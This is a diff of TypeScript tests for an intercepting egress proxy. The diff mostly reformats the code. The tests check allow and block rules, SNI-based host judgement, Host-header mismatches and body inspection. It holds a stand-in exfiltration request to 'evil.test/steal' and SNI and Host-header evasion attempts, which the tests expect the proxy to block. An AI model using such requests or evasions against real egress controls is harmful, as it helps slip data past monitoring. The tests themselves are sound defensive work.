@@ -18,17 +18,38 @@ afterAll(async () => {
 });
 
 const blockEvil = () =>
-  rig.decider.set([{ id: 'no-evil', action: 'block', reason: 'evil.test is an exfil endpoint', when: (e) => reqOf(e)?.host === 'evil.test' }]);
+  rig.decider.set([
+    {
+      id: 'no-evil',
+      action: 'block',
+      reason: 'evil.test is an exfil endpoint',
+      when: (e) => reqOf(e)?.host === 'evil.test',
+    },
+  ]);
 
 describe('explicit proxy: HTTPS through CONNECT', () => {
-  it.skipIf(!hasCurl)('serves curl -x … --cacert with a leaf from our CA and forwards the allowed request (needs curl)', async () => {
-    const before = rig.sink.nets.length;
-    const r = await curl(['-x', rig.proxyUrl, '--cacert', caFile, 'https://api.test/hello?x=1']);
-    expect(r.stderr).toBe('');
-    expect(JSON.parse(r.stdout)).toMatchObject({ url: '/hello?x=1', host: 'api.test' });
-    const rows = await rig.sink.waitNets(before + 1);
-    expect(rows[before]).toMatchObject({ scheme: 'https', method: 'GET', host: 'api.test', port: 443, path: '/hello', query: 'x=1', sni: 'api.test', status: 200, decision: 'allow', error: null });
-  });
+  it.skipIf(!hasCurl)(
+    'serves curl -x … --cacert with a leaf from our CA and forwards the allowed request (needs curl)',
+    async () => {
+      const before = rig.sink.nets.length;
+      const r = await curl(['-x', rig.proxyUrl, '--cacert', caFile, 'https://api.test/hello?x=1']);
+      expect(r.stderr).toBe('');
+      expect(JSON.parse(r.stdout)).toMatchObject({ url: '/hello?x=1', host: 'api.test' });
+      const rows = await rig.sink.waitNets(before + 1);
+      expect(rows[before]).toMatchObject({
+        scheme: 'https',
+        method: 'GET',
+        host: 'api.test',
+        port: 443,
+        path: '/hello',
+        query: 'x=1',
+        sni: 'api.test',
+        status: 200,
+        decision: 'allow',
+        error: null,
+      });
+    },
+  );
 
   it('serves Node fetch through undici ProxyAgent trusting only the celgate CA', async () => {
     const agent = new ProxyAgent({ uri: rig.proxyUrl, requestTls: { ca: rig.gatewayCerts.caPem } });
@@ -47,23 +68,40 @@ describe('explicit proxy: HTTPS through CONNECT', () => {
     const before = rig.sink.nets.length;
     const agent = new ProxyAgent({ uri: rig.proxyUrl, requestTls: { ca: rig.gatewayCerts.caPem } });
     try {
-      const res = await undiciFetch('https://evil.test/steal', { dispatcher: agent, headers: { accept: 'application/json' } });
+      const res = await undiciFetch('https://evil.test/steal', {
+        dispatcher: agent,
+        headers: { accept: 'application/json' },
+      });
       expect(res.status).toBe(403);
-      expect(await res.json()).toMatchObject({ blocked: true, rule_id: 'no-evil', reason: 'evil.test is an exfil endpoint' });
+      expect(await res.json()).toMatchObject({
+        blocked: true,
+        rule_id: 'no-evil',
+        reason: 'evil.test is an exfil endpoint',
+      });
     } finally {
       await agent.close();
       rig.decider.set([]);
     }
     expect(rig.https.seen.length).toBe(seen);
     const row = (await rig.sink.waitNets(before + 1))[before]!;
-    expect(row).toMatchObject({ host: 'evil.test', status: 403, decision: 'block', rule_id: 'no-evil' });
+    expect(row).toMatchObject({
+      host: 'evil.test',
+      status: 403,
+      decision: 'block',
+      rule_id: 'no-evil',
+    });
   });
 
   it('takes the host from SNI, not the CONNECT line: a tunnel to api.test with SNI evil.test is judged as evil.test', async () => {
     blockEvil();
     const seen = rig.https.seen.length;
     const before = rig.sink.nets.length;
-    const socket = await tlsThroughTunnel(rig.port, 'api.test:443', rig.gatewayCerts.caPem, 'evil.test');
+    const socket = await tlsThroughTunnel(
+      rig.port,
+      'api.test:443',
+      rig.gatewayCerts.caPem,
+      'evil.test',
+    );
     expect(socket.getPeerCertificate().subjectaltname).toBe('DNS:evil.test');
     const client = clientOver('https://evil.test', socket);
     try {
@@ -75,11 +113,20 @@ describe('explicit proxy: HTTPS through CONNECT', () => {
       rig.decider.set([]);
     }
     expect(rig.https.seen.length).toBe(seen);
-    expect((await rig.sink.waitNets(before + 1))[before]).toMatchObject({ host: 'evil.test', sni: 'evil.test', rule_id: 'no-evil' });
+    expect((await rig.sink.waitNets(before + 1))[before]).toMatchObject({
+      host: 'evil.test',
+      sni: 'evil.test',
+      rule_id: 'no-evil',
+    });
   });
 
   it('mints an IP-SAN leaf from the CONNECT target when the client sends no SNI (IP literal)', async () => {
-    const socket = await tlsThroughTunnel(rig.port, '127.0.0.2:443', rig.gatewayCerts.caPem, undefined);
+    const socket = await tlsThroughTunnel(
+      rig.port,
+      '127.0.0.2:443',
+      rig.gatewayCerts.caPem,
+      undefined,
+    );
     expect(socket.getPeerCertificate().subjectaltname).toBe('IP Address:127.0.0.2');
     expect(socket.authorized).toBe(true);
     const client = clientOver('https://127.0.0.2', socket);
@@ -93,13 +140,24 @@ describe('explicit proxy: HTTPS through CONNECT', () => {
   });
 
   it('keeps one tunnel alive across an allowed, a blocked and an allowed request, with a rule change in between', async () => {
-    const socket = await tlsThroughTunnel(rig.port, 'api.test:443', rig.gatewayCerts.caPem, 'api.test');
+    const socket = await tlsThroughTunnel(
+      rig.port,
+      'api.test:443',
+      rig.gatewayCerts.caPem,
+      'api.test',
+    );
     const client = clientOver('https://api.test', socket);
     try {
       const a = await client.request({ path: '/one', method: 'GET' });
       expect(a.statusCode).toBe(200);
       await a.body.text();
-      rig.decider.set([{ id: 'no-admin', action: 'block', when: (e) => reqOf(e)?.path.startsWith('/admin') === true }]);
+      rig.decider.set([
+        {
+          id: 'no-admin',
+          action: 'block',
+          when: (e) => reqOf(e)?.path.startsWith('/admin') === true,
+        },
+      ]);
       const b = await client.request({ path: '/admin', method: 'GET' });
       expect(b.statusCode).toBe(403);
       await b.body.text();
@@ -127,20 +185,37 @@ describe('explicit proxy: HTTPS through CONNECT', () => {
 });
 
 describe('explicit proxy: plain http:// requests', () => {
-  it.skipIf(!hasCurl)('forwards curl -x … http://host/path to the plain upstream and records scheme http (needs curl)', async () => {
-    const before = rig.sink.nets.length;
-    const r = await curl(['-x', rig.proxyUrl, 'http://plain.test/p?q=2']);
-    expect(JSON.parse(r.stdout)).toMatchObject({ url: '/p?q=2', host: 'plain.test' });
-    const rows = await rig.sink.waitNets(before + 1);
-    expect(rows[before]).toMatchObject({ scheme: 'http', host: 'plain.test', port: 80, path: '/p', query: 'q=2', sni: '', status: 200, decision: 'allow' });
-  });
+  it.skipIf(!hasCurl)(
+    'forwards curl -x … http://host/path to the plain upstream and records scheme http (needs curl)',
+    async () => {
+      const before = rig.sink.nets.length;
+      const r = await curl(['-x', rig.proxyUrl, 'http://plain.test/p?q=2']);
+      expect(JSON.parse(r.stdout)).toMatchObject({ url: '/p?q=2', host: 'plain.test' });
+      const rows = await rig.sink.waitNets(before + 1);
+      expect(rows[before]).toMatchObject({
+        scheme: 'http',
+        host: 'plain.test',
+        port: 80,
+        path: '/p',
+        query: 'q=2',
+        sni: '',
+        status: 200,
+        decision: 'allow',
+      });
+    },
+  );
 
   it('judges the absolute URL, not a Host header that names another host', async () => {
-    rig.decider.set([{ id: 'no-plain', action: 'block', when: (e) => reqOf(e)?.host === 'plain.test' }]);
+    rig.decider.set([
+      { id: 'no-plain', action: 'block', when: (e) => reqOf(e)?.host === 'plain.test' },
+    ]);
     const seen = rig.plain.seen.length;
     const before = rig.sink.nets.length;
     try {
-      const out = await rawExchange(rig.port, 'GET http://plain.test/x HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n');
+      const out = await rawExchange(
+        rig.port,
+        'GET http://plain.test/x HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n',
+      );
       expect(out).toMatch(/^HTTP\/1\.1 403/);
       expect(out).toMatch(/no-plain/);
     } finally {
@@ -148,11 +223,22 @@ describe('explicit proxy: plain http:// requests', () => {
     }
     expect(rig.plain.seen.length).toBe(seen);
     const rows = await rig.sink.waitNets(before + 1);
-    expect(rows[before]).toMatchObject({ host: 'plain.test', host_header_mismatch: 'api.test', rule_id: 'no-plain' });
+    expect(rows[before]).toMatchObject({
+      host: 'plain.test',
+      host_header_mismatch: 'api.test',
+      rule_id: 'no-plain',
+    });
   });
 
   it('answers a blocked plain request with 403 text naming the rule', async () => {
-    rig.decider.set([{ id: 'no-plain', action: 'block', reason: 'plain text is not allowed', when: (e) => reqOf(e)?.host === 'plain.test' }]);
+    rig.decider.set([
+      {
+        id: 'no-plain',
+        action: 'block',
+        reason: 'plain text is not allowed',
+        when: (e) => reqOf(e)?.host === 'plain.test',
+      },
+    ]);
     const agent = new ProxyAgent({ uri: rig.proxyUrl });
     try {
       const res = await undiciFetch('http://plain.test/secret', { dispatcher: agent });
@@ -171,7 +257,11 @@ describe('explicit proxy: request bodies', () => {
   it('forwards a POST body through a tunnel unchanged', async () => {
     const agent = new ProxyAgent({ uri: rig.proxyUrl, requestTls: { ca: rig.gatewayCerts.caPem } });
     try {
-      const res = await undiciFetch('https://api.test/upload', { dispatcher: agent, method: 'POST', body: 'x'.repeat(100_000) });
+      const res = await undiciFetch('https://api.test/upload', {
+        dispatcher: agent,
+        method: 'POST',
+        body: 'x'.repeat(100_000),
+      });
       expect(res.status).toBe(200);
       expect(((await res.json()) as { body: string }).body).toBe('x'.repeat(100_000));
     } finally {
@@ -185,17 +275,28 @@ describe('explicit proxy: request bodies', () => {
         id: 'no-secrets',
         action: 'block',
         readsBody: true,
-        when: (e) => (e as { http?: { request?: { body?: { text?: string } } } }).http?.request?.body?.text?.includes('secret') === true,
+        when: (e) =>
+          (
+            e as { http?: { request?: { body?: { text?: string } } } }
+          ).http?.request?.body?.text?.includes('secret') === true,
       },
     ]);
     const seen = rig.https.seen.length;
     const agent = new ProxyAgent({ uri: rig.proxyUrl, requestTls: { ca: rig.gatewayCerts.caPem } });
     try {
-      const blocked = await undiciFetch('https://api.test/post', { dispatcher: agent, method: 'POST', body: 'the secret is 42' });
+      const blocked = await undiciFetch('https://api.test/post', {
+        dispatcher: agent,
+        method: 'POST',
+        body: 'the secret is 42',
+      });
       expect(blocked.status).toBe(403);
       await blocked.text();
       expect(rig.https.seen.length).toBe(seen);
-      const fine = await undiciFetch('https://api.test/post', { dispatcher: agent, method: 'POST', body: 'nothing to see' });
+      const fine = await undiciFetch('https://api.test/post', {
+        dispatcher: agent,
+        method: 'POST',
+        body: 'nothing to see',
+      });
       expect(fine.status).toBe(200);
       expect(((await fine.json()) as { body: string }).body).toBe('nothing to see');
     } finally {
@@ -205,7 +306,9 @@ describe('explicit proxy: request bodies', () => {
   });
 
   it('answers Expect: 100-continue only after the decision, and refuses a blocked one without reading the body', async () => {
-    rig.decider.set([{ id: 'no-plain-upload', action: 'block', when: (e) => reqOf(e)?.path === '/blocked-upload' }]);
+    rig.decider.set([
+      { id: 'no-plain-upload', action: 'block', when: (e) => reqOf(e)?.path === '/blocked-upload' },
+    ]);
     try {
       const out = await rawExchange(
         rig.port,
@@ -220,7 +323,12 @@ describe('explicit proxy: request bodies', () => {
 
   it('judges a request without a Host header inside a tunnel by its SNI', async () => {
     blockEvil();
-    const socket = await tlsThroughTunnel(rig.port, 'evil.test:443', rig.gatewayCerts.caPem, 'evil.test');
+    const socket = await tlsThroughTunnel(
+      rig.port,
+      'evil.test:443',
+      rig.gatewayCerts.caPem,
+      'evil.test',
+    );
     try {
       const answer = await new Promise<string>((resolve) => {
         let out = '';
@@ -239,7 +347,10 @@ describe('explicit proxy: request bodies', () => {
 describe('explicit proxy: agent label from proxy credentials', () => {
   it('records the proxy user name as process_name for tunnelled requests (undici ProxyAgent)', async () => {
     const before = rig.sink.nets.length;
-    const agent = new ProxyAgent({ uri: `http://agent-7:unused@127.0.0.1:${rig.port}`, requestTls: { ca: rig.gatewayCerts.caPem } });
+    const agent = new ProxyAgent({
+      uri: `http://agent-7:unused@127.0.0.1:${rig.port}`,
+      requestTls: { ca: rig.gatewayCerts.caPem },
+    });
     try {
       const res = await undiciFetch('https://api.test/labelled', { dispatcher: agent });
       expect(res.status).toBe(200);
@@ -249,16 +360,21 @@ describe('explicit proxy: agent label from proxy credentials', () => {
     }
     const rows = await rig.sink.waitNets(before + 1);
     expect(rows[before]).toMatchObject({ path: '/labelled', process_name: 'agent-7' });
-    const decided = rig.sink.decisions.find((d) => d.event.common.event_id === rows[before]!.event_id);
+    const decided = rig.sink.decisions.find(
+      (d) => d.event.common.event_id === rows[before]!.event_id,
+    );
     expect(decided?.event.common.process_name).toBe('agent-7');
   });
 
-  it.skipIf(!hasCurl)('records it for plain requests too, and ignores a label with odd characters (needs curl)', async () => {
-    const before = rig.sink.nets.length;
-    await curl(['-x', `http://builder.bot:x@127.0.0.1:${rig.port}`, 'http://plain.test/a']);
-    await curl(['-x', `http://bad%20name:x@127.0.0.1:${rig.port}`, 'http://plain.test/b']);
-    const rows = await rig.sink.waitNets(before + 2);
-    expect(rows[before]).toMatchObject({ path: '/a', process_name: 'builder.bot' });
-    expect(rows[before + 1]).toMatchObject({ path: '/b', process_name: '' });
-  });
+  it.skipIf(!hasCurl)(
+    'records it for plain requests too, and ignores a label with odd characters (needs curl)',
+    async () => {
+      const before = rig.sink.nets.length;
+      await curl(['-x', `http://builder.bot:x@127.0.0.1:${rig.port}`, 'http://plain.test/a']);
+      await curl(['-x', `http://bad%20name:x@127.0.0.1:${rig.port}`, 'http://plain.test/b']);
+      const rows = await rig.sink.waitNets(before + 2);
+      expect(rows[before]).toMatchObject({ path: '/a', process_name: 'builder.bot' });
+      expect(rows[before + 1]).toMatchObject({ path: '/b', process_name: '' });
+    },
+  );
 });
